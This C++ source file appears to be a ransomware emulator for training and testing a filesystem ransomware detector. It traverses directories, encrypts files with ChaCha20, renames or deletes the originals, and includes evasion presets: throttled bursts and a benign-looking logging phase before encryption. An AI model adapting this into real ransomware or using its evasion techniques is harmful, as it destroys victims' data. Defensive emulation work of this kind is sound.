#include <dirent.h>
#include <fcntl.h>
#include <openssl/evp.h>

#include <cmath>
#include <deque>
#include <random>

#include "guardfs/adversary.hpp"
#include "guardfs/textio.hpp"

namespace guardfs::adversary {

std::string_view to_string(Traversal t) {
  switch (t) {
    case Traversal::DepthFirst: return "depth-first";
    case Traversal::BreadthFirst: return "breadth-first";
    case Traversal::Shuffled: return "shuffled";
  }
  return "?";
}

Traversal parse_traversal(std::string_view text) {
  if (text == "depth-first") return Traversal::DepthFirst;
  if (text == "breadth-first") return Traversal::BreadthFirst;
  if (text == "shuffled") return Traversal::Shuffled;
  throw std::invalid_argument("unknown traversal '" + std::string(text) + "'");
}

std::string_view to_string(RansomMode m) {
  return m == RansomMode::Overwrite ? "overwrite" : "create-then-unlink";
}

RansomMode parse_ransom_mode(std::string_view text) {
  if (text == "overwrite") return RansomMode::Overwrite;
  if (text == "create-then-unlink") return RansomMode::CreateThenUnlink;
  throw std::invalid_argument("unknown ransomware mode '" + std::string(text) + "'");
}

void RansomSpec::validate() const {
  if (!(rate > 0)) throw std::invalid_argument("ransomware rate must be positive");
  if (parallelism < 1) throw std::invalid_argument("parallelism must be >= 1");
  if (burst_s < 0 || sleep_s < 0) throw std::invalid_argument("duty cycle must be >= 0");
  if (sleep_s > 0 && burst_s <= 0) throw std::invalid_argument("duty cycle needs a burst length");
  if (benign_lead_s < 0) throw std::invalid_argument("benign lead must be >= 0");
  if (chunk == 0) throw std::invalid_argument("chunk must be positive");
}

bool RansomSpec::eligible(const std::string& path) const {
  if (suffixes.empty()) return true;
  return std::any_of(suffixes.begin(), suffixes.end(),
                     [&](const std::string& s) { return path.ends_with(s); });
}

RansomSpec preset(std::string_view name) {
  RansomSpec s;
  s.family = std::string(name);
  if (name == "aggressive-parallel") {
    s.rate = 8.0 * (1 << 20);
    s.parallelism = 4;
    s.traversal = Traversal::Shuffled;
    s.mode = RansomMode::Overwrite;
  } else if (name == "sequential-basic") {
    s.rate = 3.0 * (1 << 20);
    s.traversal = Traversal::DepthFirst;
    s.mode = RansomMode::CreateThenUnlink;
  } else if (name == "stealth-throttled") {
    s.rate = 4.0 * (1 << 20);
    s.traversal = Traversal::BreadthFirst;
    s.mode = RansomMode::Overwrite;
    s.burst_s = 2.0;
    s.sleep_s = 8.0;
  } else if (name == "phase-sleeper") {
    s.rate = 2.0 * (1 << 20);
    s.traversal = Traversal::Shuffled;
    s.mode = RansomMode::Overwrite;
    s.benign_lead_s = 12.0;
  } else {
    throw std::invalid_argument("unknown ransomware preset '" + std::string(name) + "'");
  }
  return s;
}

std::vector<std::string> training_families() {
  return {"aggressive-parallel", "sequential-basic", "stealth-throttled"};
}

void WorkStats::merge(const WorkStats& o) {
  bytes_attempted += o.bytes_attempted;
  files_touched += o.files_touched;
  duration_ms = std::max(duration_ms, o.duration_ms);
  errors += o.errors;
}

std::map<std::string, std::string> WorkStats::to_key_values() const {
  return {{"bytes_attempted", std::to_string(bytes_attempted)},
          {"files_touched", std::to_string(files_touched)},
          {"duration_ms", std::to_string(duration_ms)},
          {"errors", std::to_string(errors)}};
}

namespace {

bool skipped_name(const std::string& name) {
  return name.empty() || name[0] == '.' || name.ends_with(".locked") || name.ends_with(".enc");
}

bool is_dir(FsClient& fs, const std::string& path, const DirEntry& e) {
  if (e.type == DT_DIR) return true;
  if (e.type != DT_UNKNOWN) return false;
  FileAttr a;
  return fs.stat(path, a) == 0 && S_ISDIR(a.mode);
}

std::string join(const std::string& dir, const std::string& name) {
  return dir.ends_with('/') ? dir + name : dir + "/" + name;
}

void walk_depth(FsClient& fs, const std::string& dir, const RansomSpec& spec,
                std::vector<std::string>& out) {
  std::vector<DirEntry> entries;
  if (fs.list(dir, entries) != 0) return;
  for (const auto& e : entries) {
    if (skipped_name(e.name)) continue;
    const auto path = join(dir, e.name);
    if (is_dir(fs, path, e)) {
      walk_depth(fs, path, spec, out);
    } else if (spec.eligible(path)) {
      out.push_back(path);
    }
  }
}

}  // namespace

std::vector<std::string> list_targets(FsClient& fs, const std::string& root,
                                      const RansomSpec& spec) {
  std::vector<std::string> out;
  if (spec.traversal == Traversal::BreadthFirst) {
    std::deque<std::string> dirs{root};
    while (!dirs.empty()) {
      const auto dir = dirs.front();
      dirs.pop_front();
      std::vector<DirEntry> entries;
      if (fs.list(dir, entries) != 0) continue;
      for (const auto& e : entries) {
        if (skipped_name(e.name)) continue;
        const auto path = join(dir, e.name);
        if (is_dir(fs, path, e)) {
          dirs.push_back(path);
        } else if (spec.eligible(path)) {
          out.push_back(path);
        }
      }
    }
    return out;
  }
  walk_depth(fs, root, spec, out);
  if (spec.traversal == Traversal::Shuffled) {
    std::mt19937_64 rng(spec.seed);
    std::shuffle(out.begin(), out.end(), rng);
  }
  return out;
}

std::uint64_t worker_seed(std::uint64_t seed, int index) {
  return seed * 7919 + static_cast<std::uint64_t>(index) + 1;
}

std::vector<std::vector<std::string>> partition(const std::vector<std::string>& files, int parts) {
  if (parts < 1) throw std::invalid_argument("partition needs at least one part");
  std::vector<std::vector<std::string>> out(static_cast<std::size_t>(parts));
  for (std::size_t i = 0; i < files.size(); ++i) out[i % out.size()].push_back(files[i]);
  return out;
}

Encryptor::Encryptor(std::uint64_t seed) : ctx_(EVP_CIPHER_CTX_new()) {
  if (!ctx_) throw std::runtime_error("cipher context allocation failed");
  std::mt19937_64 rng(seed ^ 0x5eedc0ffee1234ULL);
  for (std::size_t i = 0; i < key_.size(); i += 8) {
    const std::uint64_t v = rng();
    for (int b = 0; b < 8; ++b) key_[i + b] = static_cast<unsigned char>(v >> (8 * b));
  }
  next_file();
}

Encryptor::~Encryptor() { EVP_CIPHER_CTX_free(static_cast<EVP_CIPHER_CTX*>(ctx_)); }

void Encryptor::next_file() {
  // 4-byte block counter followed by a 12-byte nonce.
  std::array<unsigned char, 16> iv{};
  const std::uint64_t n = ++file_counter_;
  for (int b = 0; b < 8; ++b) iv[4 + b] = static_cast<unsigned char>(n >> (8 * b));
  if (EVP_EncryptInit_ex(static_cast<EVP_CIPHER_CTX*>(ctx_), EVP_chacha20(), nullptr, key_.data(),
                         iv.data()) != 1) {
    throw std::runtime_error("chacha20 init failed");
  }
}

void Encryptor::apply(std::span<const std::uint8_t> in, std::vector<std::uint8_t>& out) {
  out.resize(in.size());
  int len = 0;
  if (EVP_EncryptUpdate(static_cast<EVP_CIPHER_CTX*>(ctx_), out.data(), &len, in.data(),
                        static_cast<int>(in.size())) != 1) {
    throw std::runtime_error("chacha20 update failed");
  }
  out.resize(static_cast<std::size_t>(len));
}

namespace {

/// Maps encrypted bytes to the wall time they are due, honoring the duty
/// cycle.
class Pacer {
 public:
  Pacer(Clock& clock, double rate, double burst_s, double sleep_s)
      : clock_(clock), start_(clock.now()), rate_(rate), burst_(burst_s), sleep_(sleep_s) {}

  void account(std::uint64_t bytes, std::optional<UnixNanos> deadline) {
    active_ += double(bytes) / rate_;
    double wall = active_;
    if (burst_ > 0) {
      const double cycles = std::floor(active_ / burst_);
      wall = cycles * (burst_ + sleep_) + (active_ - cycles * burst_);
    }
    UnixNanos due = start_ + std::chrono::nanoseconds(static_cast<std::int64_t>(wall * 1e9));
    if (deadline) due = std::min(due, *deadline);
    if (due > clock_.now()) clock_.sleep_until(due);
  }

 private:
  Clock& clock_;
  UnixNanos start_;
  double rate_, burst_, sleep_;
  double active_ = 0.0;
};

bool past(Clock& clock, std::optional<UnixNanos> deadline) {
  return deadline && clock.now() >= *deadline;
}

// Low-entropy appends and small reads, like a quiet logging utility.
void benign_lead(FsClient& fs, const RansomSpec& spec, const std::vector<std::string>& files,
                 const std::string& root, std::uint64_t seed, std::optional<UnixNanos> deadline,
                 WorkStats& stats) {
  Clock& clock = fs.clock();
  const UnixNanos end =
      clock.now() + std::chrono::nanoseconds(static_cast<std::int64_t>(spec.benign_lead_s * 1e9));
  Handle log = 0;
  const std::string log_path = join(root, ".sleeper-" + std::to_string(seed) + ".log");
  if (fs.create(log_path, log) != 0) ++stats.errors;
  std::mt19937_64 rng(seed);
  std::uint64_t offset = 0;
  for (int tick = 0; clock.now() < end && !past(clock, deadline); ++tick) {
    char line[96];
    const int n = std::snprintf(line, sizeof(line), "tick %06d status ok queue %02d load %d.%02d\n",
                                tick, int(rng() % 20), int(rng() % 4), int(rng() % 100));
    std::span<const std::uint8_t> data(reinterpret_cast<const std::uint8_t*>(line),
                                       static_cast<std::size_t>(n));
    if (log && fs.write(log, offset, data) == 0) offset += data.size();
    if (tick % 4 == 0 && !files.empty()) {
      Handle h;
      if (fs.open(files[rng() % files.size()], O_RDONLY, h) == 0) {
        std::vector<std::uint8_t> buf;
        fs.read(h, 0, 4096, buf);
        fs.release(h);
      }
    }
    UnixNanos next = clock.now() + std::chrono::milliseconds(500);
    clock.sleep_until(std::min(next, end));
  }
  if (log) fs.release(log);
}

}  // namespace

namespace {

WorkStats encrypt_impl(FsClient& fs, const RansomSpec& spec, const NextFile& next,
                       const std::vector<std::string>& lead_files, double rate, const std::string& root,
                       std::uint64_t worker_seed, std::optional<UnixNanos> deadline) {
  spec.validate();
  Clock& clock = fs.clock();
  const UnixNanos t0 = clock.now();
  WorkStats stats;
  if (spec.benign_lead_s > 0) benign_lead(fs, spec, lead_files, root, worker_seed, deadline, stats);

  Encryptor enc(worker_seed);
  Pacer pacer(clock, rate, spec.burst_s, spec.sleep_s);
  std::vector<std::uint8_t> plain, cipher;
  const auto chunk = static_cast<std::uint32_t>(spec.chunk);
  bool stop = false;

  while (!stop && !past(clock, deadline)) {
    const auto next_path = next();
    if (!next_path) break;
    const std::string& path = *next_path;
    Handle src = 0, dst = 0;
    const bool overwrite = spec.mode == RansomMode::Overwrite;
    if (fs.open(path, overwrite ? O_RDWR : O_RDONLY, src) != 0) {
      ++stats.errors;
      continue;
    }
    const std::string out_path = path + ".enc";
    if (!overwrite && fs.create(out_path, dst) != 0) {
      ++stats.errors;
      fs.release(src);
      continue;
    }
    if (overwrite) dst = src;
    enc.next_file();
    ++stats.files_touched;
    bool file_ok = true;
    for (std::uint64_t offset = 0;;) {
      if (fs.read(src, offset, chunk, plain) != 0) {
        ++stats.errors;
        file_ok = false;
        break;
      }
      if (plain.empty()) break;
      enc.apply(plain, cipher);
      if (fs.write(dst, offset, cipher) != 0) {
        ++stats.errors;
        file_ok = false;
        break;
      }
      offset += plain.size();
      stats.bytes_attempted += plain.size();
      pacer.account(plain.size(), deadline);
      if (past(clock, deadline)) {
        stop = true;
        break;
      }
      if (plain.size() < chunk) break;
    }
    fs.release(src);
    if (!overwrite) fs.release(dst);
    if (stop || !file_ok) continue;
    const int rc = overwrite ? fs.rename(path, path + ".locked") : fs.unlink(path);
    if (rc != 0) ++stats.errors;
  }
  stats.duration_ms = std::chrono::duration_cast<std::chrono::milliseconds>(clock.now() - t0).count();
  return stats;
}

}  // namespace

WorkStats encrypt_files(FsClient& fs, const RansomSpec& spec, const std::vector<std::string>& files,
                        double rate, const std::string& root, std::uint64_t worker_seed,
                        std::optional<UnixNanos> deadline) {
  std::size_t k = 0;
  const NextFile next = [&]() -> std::optional<std::string> {
    if (k >= files.size()) return std::nullopt;
    return files[k++];
  };
  return encrypt_impl(fs, spec, next, files, rate, root, worker_seed, deadline);
}

WorkStats encrypt_files(FsClient& fs, const RansomSpec& spec, const NextFile& next, double rate,
                        const std::string& root, std::uint64_t worker_seed,
                        std::optional<UnixNanos> deadline) {
  return encrypt_impl(fs, spec, next, {}, rate, root, worker_seed, deadline);
}

}  // namespace guardfs::adversary
